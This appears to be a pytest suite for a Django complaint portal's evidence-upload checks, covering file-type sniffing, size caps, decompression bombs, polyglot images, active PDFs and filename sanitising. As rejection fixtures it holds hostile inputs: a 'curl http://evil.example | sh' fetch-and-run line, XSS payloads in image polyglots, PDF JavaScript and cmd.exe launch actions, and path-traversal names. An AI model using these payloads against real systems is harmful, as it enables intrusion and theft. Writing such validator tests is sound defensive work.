"""Evidence upload checks: every file in the corpus is built here with Pillow, the stdlib or literal bytes."""

import hashlib
import io
import struct
import wave
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image, ImageFile

from complaints.uploads import (
    MAX_NAME_LENGTH,
    UploadRejected,
    inspect_upload,
    make_thumbnail,
    safe_display_name,
    validate_evidence_count,
)


@pytest.fixture(autouse=True)
def english_messages():
    with translation.override("en"):
        yield


# --- corpus -------------------------------------------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (16, 12), mode: str = "RGB", **save_options) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "red" if mode != "1" else 0).save(buffer, format=fmt, **save_options)
    return buffer.getvalue()


def noisy_image(fmt: str, size: tuple[int, int] = (64, 64)) -> bytes:
    """Noise compresses badly, so cutting the end of the file really loses pixel data."""
    buffer = io.BytesIO()
    Image.effect_noise(size, 64).convert("RGB").save(buffer, format=fmt)
    return buffer.getvalue()


def noisy_jpeg() -> bytes:
    return noisy_image("JPEG")


def noisy_gif() -> bytes:
    return noisy_image("GIF")


def noisy_webp() -> bytes:
    return noisy_image("WEBP")


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` × ``height`` with (almost) no pixel data behind it."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00"))
        + png_chunk(b"IEND", b"")
    )


def pdf_bytes(catalog_extra: bytes = b"", extra_objects: bytes = b"") -> bytes:
    """A minimal one-page PDF written by hand; ``catalog_extra`` goes into the document catalog."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
        + extra_objects
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF whose catalog lives in a compressed object stream (PDF 1.5), where a byte scan cannot see it."""
    body = zlib.compress(b"1 0 " + hidden)
    return (
        b"%PDF-1.5\n"
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(body)).encode()
        + b" >>\nstream\n"
        + body
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def wav_bytes() -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(2)
        recording.setframerate(8000)
        recording.writeframes(b"\x00\x01" * 800)
    return buffer.getvalue()


def mp3_frames(header: bytes, frame_length: int, count: int = 3) -> bytes:
    """``count`` MPEG audio frames: a real header followed by silence up to the frame length."""
    return (header + b"\x00" * (frame_length - len(header))) * count


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def upload(content: bytes, name: str = "evidence.bin") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def rejection_code(content: bytes, name: str = "evidence.bin", **options) -> str:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload(content, name), **options)
    return caught.value.code


CHAT_LOG = "2026-10-01 12:30 客服：您的订单已发货\n2026-10-01 12:31 我：卡密一直没有收到，199.00元\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00" + b"\x00" * 64


# --- accepted files -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "content_type", "extension", "is_image"),
    [
        pytest.param(image_bytes("PNG"), "shot.png", "image/png", "png", True, id="png"),
        pytest.param(image_bytes("JPEG"), "photo.jpg", "image/jpeg", "jpg", True, id="jpeg"),
        pytest.param(image_bytes("GIF"), "anim.gif", "image/gif", "gif", True, id="gif"),
        pytest.param(image_bytes("WEBP"), "pic.webp", "image/webp", "webp", True, id="webp"),
        pytest.param(pdf_bytes(), "receipt.pdf", "application/pdf", "pdf", False, id="pdf-by-hand"),
        pytest.param(CHAT_LOG.encode(), "chat.txt", "text/plain", "txt", False, id="utf8-text"),
        pytest.param(b"\xef\xbb\xbf" + CHAT_LOG.encode(), "chat.txt", "text/plain", "txt", False, id="utf8-bom"),
        pytest.param(CHAT_LOG.encode("gb18030"), "chat.txt", "text/plain", "txt", False, id="gb18030-text"),
        pytest.param("订单号,金额\nA1001,199.00\n".encode(), "orders.csv", "text/plain", "csv", False, id="csv"),
        pytest.param(wav_bytes(), "call.wav", "audio/wav", "wav", False, id="wav"),
        pytest.param(mp3_frames(b"\xff\xfb\x90\x00", 417), "v.mp3", "audio/mpeg", "mp3", False, id="mp3-fffb"),
        pytest.param(mp3_frames(b"\xff\xfa\x90\x00", 417), "v.mp3", "audio/mpeg", "mp3", False, id="mp3-crc"),
        pytest.param(mp3_frames(b"\xff\xe3\x90\x00", 522), "v.mp3", "audio/mpeg", "mp3", False, id="mpeg2.5"),
        pytest.param(
            b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10,
            "v.mp3",
            "audio/mpeg",
            "mp3",
            False,
            id="mp3-id3",
        ),
        pytest.param(b"#!AMR\n" + b"\x3c" + b"\x00" * 31, "voice.amr", "audio/amr", "amr", False, id="amr"),
        pytest.param(b"#!AMR-WB\n" + b"\x04" + b"\x00" * 40, "v.amr", "audio/amr", "amr", False, id="amr-wb"),
        pytest.param(b"OggS\x00\x02" + b"\x00" * 40, "v.ogg", "audio/ogg", "ogg", False, id="ogg"),
        pytest.param(
            b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00" + b"\x00" * 40,
            "memo.m4a",
            "audio/mp4",
            "m4a",
            False,
            id="m4a",
        ),
        pytest.param(b"\xff\xf1\x50\x80\x02\x1f\xfc" + b"\x00" * 40, "v.aac", "audio/aac", "aac", False, id="aac"),
    ],
)
def test_allowed_file_is_accepted_with_its_sniffed_type(content, name, content_type, extension, is_image):
    inspected = inspect_upload(upload(content, name))

    assert (inspected.content_type, inspected.extension, inspected.is_image) == (
        content_type,
        extension,
        is_image,
    )


def test_pdf_written_by_weasyprint_with_object_streams_is_accepted():
    weasyprint = pytest.importorskip("weasyprint")
    content = weasyprint.HTML(string="<h1>订单截图</h1><p>金额 199.00 元</p>").write_pdf()

    assert inspect_upload(upload(content, "dossier.pdf")).content_type == "application/pdf"


def test_size_and_sha256_describe_the_exact_bytes():
    content = image_bytes("PNG")

    inspected = inspect_upload(upload(content, "shot.png"))

    assert inspected.size == len(content)
    assert inspected.sha256 == hashlib.sha256(content).hexdigest()


def test_upload_is_rewound_after_inspection():
    evidence = upload(CHAT_LOG.encode(), "chat.txt")

    inspect_upload(evidence)

    assert evidence.tell() == 0
    assert evidence.read() == CHAT_LOG.encode()


def test_mismatch_between_two_allowed_types_keeps_the_sniffed_type():
    inspected = inspect_upload(upload(image_bytes("JPEG"), "screenshot.png"))

    assert (inspected.content_type, inspected.safe_name) == ("image/jpeg", "screenshot.jpg")


def test_usual_alternative_extension_for_the_type_is_kept():
    assert inspect_upload(upload(image_bytes("JPEG"), "IMG_0001.JPEG")).safe_name == "IMG_0001.jpeg"


def test_text_quoting_markup_inside_a_chat_log_is_stored_as_plain_text():
    content = (CHAT_LOG + '卖家发来链接 <script src="http://evil.example/x.js"></script> <html>\n').encode()

    assert inspect_upload(upload(content, "chat.html")).content_type == "text/plain"


def test_text_named_as_script_gets_a_text_extension():
    assert inspect_upload(upload(CHAT_LOG.encode(), "run.bat")).safe_name == "run.txt"


# --- rejected files -----------------------------------------------------------------------------------------


def test_rejection_is_a_validation_error_with_a_code():
    with pytest.raises(ValidationError) as caught:
        inspect_upload(upload(b"", "empty.png"))

    assert caught.value.code == "empty"
    assert caught.value.messages == ["The file is empty."]


def test_file_over_the_explicit_cap_is_refused_and_the_message_states_the_cap_in_mb():
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload(b"a" * (1024 * 1024 + 1), "big.txt"), max_bytes=1024 * 1024)

    assert caught.value.code == "too_large"
    assert "1 MB" in caught.value.messages[0]


def test_file_at_exactly_the_cap_is_accepted():
    assert inspect_upload(upload(b"a" * 100, "ok.txt"), max_bytes=100).size == 100


def test_default_cap_comes_from_settings(settings):
    settings.PORTAL_EVIDENCE_MAX_BYTES = 10

    assert rejection_code(b"a" * 11, "chat.txt") == "too_large"


def test_cap_is_enforced_while_reading_even_when_the_declared_size_is_wrong():
    evidence = upload(b"a" * 200, "chat.txt")
    evidence.size = 10  # a storage backend or a buggy handler reporting a smaller size

    with pytest.raises(UploadRejected) as caught:
        inspect_upload(evidence, max_bytes=100)

    assert caught.value.code == "too_large"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        pytest.param(ELF, "photo.png", id="elf-named-png"),
        pytest.param(PE, "photo.png", id="pe-named-png"),
        pytest.param(PE, "setup.exe", id="pe"),
        pytest.param(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64, "photo.jpg", id="mach-o"),
        pytest.param(b"#!/bin/sh\ncurl http://evil.example | sh\n", "notes.txt", id="shell-script"),
        pytest.param(b"<!DOCTYPE html><html><body>hi</body></html>", "page.txt", id="html"),
        pytest.param(
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "a.png",
            id="svg-with-script-named-png",
        ),
        pytest.param(
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
            "a.svg",
            id="plain-svg",
        ),
        pytest.param(zip_bytes({"evidence.txt": b"hello"}), "evidence.zip", id="zip"),
        pytest.param(b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32, "a.rar", id="rar"),
        pytest.param(b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32, "a.7z", id="7z"),
        pytest.param(
            zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
            "contract.docx",
            id="docx",
        ),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "contract.doc", id="ole-office"),
        pytest.param(bytes(range(256)) * 4, "data.txt", id="random-binary"),
        pytest.param(b"ID3 is how MP3 files start\x00", "notes.mp3", id="fake-id3"),
    ],
)
def test_disallowed_type_is_refused(content, name):
    assert rejection_code(content, name) == "type_not_allowed"


def test_type_refusal_names_the_accepted_types():
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload(ELF, "photo.png"))

    assert "PDF" in caught.value.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(image_bytes("GIF") + b"<script>alert(document.cookie)</script>", id="gif-then-script"),
        pytest.param(b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=1;<script>alert(1)</script>", id="gifar-header"),
        pytest.param(image_bytes("GIF", comment=b"<html><body onload=alert(1)>"), id="gif-comment-html"),
        pytest.param(image_bytes("JPEG", comment=b"<SCRIPT>alert(1)</SCRIPT>"), id="jpeg-comment-script"),
        pytest.param(image_bytes("PNG") + b"<svg/onload=alert(1)>", id="png-trailing-svg"),
    ],
)
def test_image_that_also_carries_html_or_script_is_refused_as_polyglot(content):
    assert rejection_code(content, "photo.gif") == "polyglot"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(image_bytes("PNG", size=(10000, 10000), mode="1"), id="10000x10000-1bit"),
        pytest.param(png_declaring(7000, 7000), id="49MP-below-pillow-limit"),
        pytest.param(png_declaring(30000, 30000), id="pillow-bomb-error"),
    ],
)
def test_decompression_bomb_is_refused(content):
    assert len(content) < 100_000
    assert rejection_code(content, "bomb.png") == "image_too_large"


@pytest.mark.parametrize(
    "load_truncated_images", [False, True], ids=["pillow-default", "pillow-flag-set-by-weasyprint"]
)
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(image_bytes("PNG", size=(200, 200))[:-40], id="truncated-png"),
        pytest.param(noisy_jpeg()[:-600], id="truncated-jpeg"),
        pytest.param(noisy_gif()[:-300], id="truncated-gif"),
        pytest.param(noisy_webp()[:-300], id="truncated-webp"),
        pytest.param(image_bytes("PNG")[:-5] + b"XXXXX", id="png-bad-iend-crc"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, id="png-signature-only"),
    ],
)
def test_image_pillow_cannot_decode_is_refused_as_corrupt(content, load_truncated_images, monkeypatch):
    # WeasyPrint sets this Pillow global on import, so in a running portal it is usually True.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", load_truncated_images)

    assert rejection_code(content, "photo.png") == "corrupt"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(pdf_bytes(b"/Names << /JavaScript 5 0 R >>"), id="javascript-name-tree"),
        pytest.param(pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), id="openaction-js"),
        pytest.param(pdf_bytes(b"/OpenAction [3 0 R /Fit]"), id="openaction"),
        pytest.param(pdf_bytes(b"/AA << /O 6 0 R >>"), id="additional-actions"),
        pytest.param(pdf_bytes(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), id="launch"),
        pytest.param(pdf_bytes(b"/Names << /EmbeddedFiles 7 0 R >>"), id="embedded-files"),
        pytest.param(
            pdf_bytes(extra_objects=b"5 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n"),
            id="embedded-file-stream",
        ),
        pytest.param(pdf_bytes(b"/Op#65nAction << /S /J#61vaScript /JS (x) >>"), id="hex-escaped-names"),
        pytest.param(
            pdf_with_object_stream(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>"),
            id="inside-object-stream",
        ),
        pytest.param(pdf_with_object_stream(b"<< /Type /Catalog /AA << /O 6 0 R >> >>"), id="aa-in-object-stream"),
    ],
)
def test_pdf_with_scripts_or_automatic_actions_is_refused(content):
    assert rejection_code(content, "receipt.pdf") == "active_pdf"


def test_pdf_whose_object_stream_cannot_be_inflated_is_refused_as_unverifiable():
    content = pdf_bytes(
        extra_objects=b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /Crypt /Length 8 >>\nstream\n"
        b"\x8f\x01\x99\xaa\x10\x20\x30\x40\nendstream\nendobj\n"
    )

    assert rejection_code(content, "statement.pdf") == "unverifiable_pdf"


def test_binary_noise_in_page_content_streams_is_not_mistaken_for_actions():
    noise = b"/JS /AA " * 4  # short names inside a (compressed) content stream are data, not dictionaries
    content = pdf_bytes(
        extra_objects=b"4 0 obj\n<< /Length 16 >>\nstream\n" + noise + b"\nendstream\nendobj\n",
    )

    assert inspect_upload(upload(content, "receipt.pdf")).content_type == "application/pdf"


# --- names --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe_name"),
    [
        pytest.param("../../etc/passwd.png", "passwd.png", id="dot-dot-slash"),
        pytest.param("..\\..\\windows\\system32\\evil.png", "evil.png", id="dot-dot-backslash"),
        pytest.param("/etc/passwd", "passwd.png", id="absolute-posix"),
        pytest.param("C:\\Users\\me\\Desktop\\截图.png", "截图.png", id="absolute-windows"),
        pytest.param("C:截图.png", "截图.png", id="drive-relative"),
        pytest.param("a\x00b\r\nc\x1b[31m.png", "abc[31m.png", id="control-characters"),
        pytest.param("invoice\u202egnp.exe", "invoicegnp.png", id="rtl-override"),
        pytest.param("\u2067photo\u2069\u200b.png", "photo.png", id="isolates-and-zero-width"),
        pytest.param("photo.exe", "photo.png", id="foreign-extension-replaced"),
        pytest.param("Screenshot 10.30 am", "Screenshot 10.30 am.png", id="dot-that-is-not-an-extension"),
        pytest.param('bad<>:"|?*name.png', "bad_______name.png", id="windows-reserved"),
        pytest.param(".hidden.png", "hidden.png", id="leading-dot"),
    ],
)
def test_display_name_is_sanitised(name, safe_name):
    assert inspect_upload(upload(image_bytes("PNG"), name)).safe_name == safe_name


@pytest.mark.parametrize("name", ["..", "", "   ", "\u202e\u202c"])
def test_display_name_without_usable_characters_falls_back_to_evidence(name):
    # Django's UploadedFile refuses some of these names itself, so the helper is called directly.
    assert safe_display_name(name, "png") == "evidence.png"


def test_long_display_name_is_cut_to_the_limit_keeping_the_extension():
    safe_name = inspect_upload(upload(image_bytes("PNG"), "截" * 400 + ".png")).safe_name

    assert len(safe_name) == MAX_NAME_LENGTH
    assert safe_name.endswith("截.png")


# --- thumbnails ---------------------------------------------------------------------------------------------


def test_thumbnail_of_a_large_image_fits_the_box_and_is_png():
    thumbnail = make_thumbnail(upload(image_bytes("JPEG", size=(2400, 1600)), "big.jpg"))

    with Image.open(thumbnail) as image:
        assert image.format == "PNG"
        assert max(image.size) <= 320
        assert image.size == (320, 213)


def test_thumbnail_leaves_the_original_bytes_and_position_unchanged():
    content = image_bytes("PNG", size=(1000, 800))
    evidence = upload(content, "shot.png")
    before = hashlib.sha256(evidence.read()).hexdigest()
    evidence.seek(0)

    make_thumbnail(evidence)

    assert evidence.tell() == 0
    assert hashlib.sha256(evidence.read()).hexdigest() == before == hashlib.sha256(content).hexdigest()


def test_thumbnail_applies_exif_orientation_and_drops_metadata():
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x010F] = "PhoneMaker"
    buffer = io.BytesIO()
    Image.new("RGB", (400, 200), "blue").save(buffer, format="JPEG", exif=exif)

    thumbnail = make_thumbnail(upload(buffer.getvalue(), "portrait.jpg"))

    with Image.open(thumbnail) as image:
        assert image.width < image.height
        assert "exif" not in image.info
        assert not image.getexif()


def test_thumbnail_keeps_transparency():
    thumbnail = make_thumbnail(upload(image_bytes("PNG", mode="RGBA", size=(500, 500)), "logo.png"))

    with Image.open(thumbnail) as image:
        assert image.mode == "RGBA"


@pytest.mark.parametrize("content", [pytest.param(pdf_bytes(), id="pdf"), pytest.param(CHAT_LOG.encode(), id="text")])
def test_thumbnail_of_a_non_image_is_none(content):
    assert make_thumbnail(upload(content, "photo.png")) is None


# --- file count ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("existing", "adding"), [(0, 1), (19, 1), (0, 20)])
def test_evidence_count_within_the_cap_is_accepted(existing, adding):
    assert validate_evidence_count(existing, adding, limit=20) is None
    # One file more than the room left is refused: the cap is exactly where it is said to be.
    with pytest.raises(UploadRejected):
        validate_evidence_count(existing, 20 - existing + 1, limit=20)


def test_evidence_count_over_the_cap_is_refused_with_the_cap_in_the_message():
    with pytest.raises(UploadRejected) as caught:
        validate_evidence_count(19, 2, limit=20)

    assert caught.value.code == "too_many_files"
    assert "20" in caught.value.messages[0]


def test_evidence_count_cap_defaults_to_settings(settings):
    settings.PORTAL_EVIDENCE_MAX_FILES = 3

    with pytest.raises(UploadRejected):
        validate_evidence_count(3, 1)
